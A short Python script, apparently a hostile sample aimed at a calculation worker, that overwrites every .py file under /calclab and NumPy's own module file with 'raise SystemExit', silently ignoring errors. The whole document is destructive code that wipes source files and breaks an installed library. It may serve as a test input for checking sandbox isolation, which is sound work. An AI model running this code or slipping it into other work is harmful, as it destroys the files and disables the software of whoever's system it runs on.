"""Rewrite the worker's own files and NumPy's."""

import pathlib

import numpy

for file in [*pathlib.Path("/calclab").rglob("*.py"), pathlib.Path(numpy.__file__)]:
    try:
        file.write_text("raise SystemExit")
    except OSError:
        pass
